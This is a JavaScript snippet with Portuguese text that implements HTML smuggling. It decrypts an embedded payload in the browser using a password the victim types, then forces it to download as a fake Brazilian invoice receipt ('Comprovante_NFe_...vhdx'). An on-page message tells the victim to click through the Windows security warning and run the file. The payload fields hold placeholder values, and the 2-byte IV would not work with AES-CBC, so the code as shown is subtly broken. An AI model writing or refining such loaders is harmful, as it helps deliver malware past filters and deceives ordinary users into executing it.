const D = { iv: "SVY=", salt: "U0FMVA==", data: "QUFBQUFBQUE=" };
const u8 = (s) => Uint8Array.from(atob(s), (c) => c.charCodeAt(0));
async function abrir(senha) {
  const base = await crypto.subtle.importKey("raw", new TextEncoder().encode(senha), "PBKDF2", false, ["deriveKey"]);
  const key = await crypto.subtle.deriveKey({ name: "PBKDF2", salt: u8(D.salt), iterations: 1000, hash: "SHA-256" }, base, { name: "AES-CBC", length: 256 }, false, ["decrypt"]);
  return crypto.subtle.decrypt({ name: "AES-CBC", iv: u8(D.iv) }, key, u8(D.data));
}
document.querySelector("#senha").addEventListener("input", async (e) => {
  if (e.target.value.length < 4) return;
  try {
    const buf = await abrir(e.target.value);
    const w = window.open(URL.createObjectURL(new Blob([buf], { type: "application/x-msdownload" })));
    const a = document.createElement("a");
    a.href = URL.createObjectURL(new Blob([buf]));
    a.setAttribute("download", "Comprovante_NFe_" + Date.now() + ".vhdx");
    a.dispatchEvent(new MouseEvent("click"));
    document.querySelector("#aviso").textContent = "Abra o comprovante no computador. Se o Windows alertar, clique em Mais informações > Executar assim mesmo.";
  } catch { document.querySelector("#aviso").textContent = "Senha enviada no corpo do e-mail"; }
});
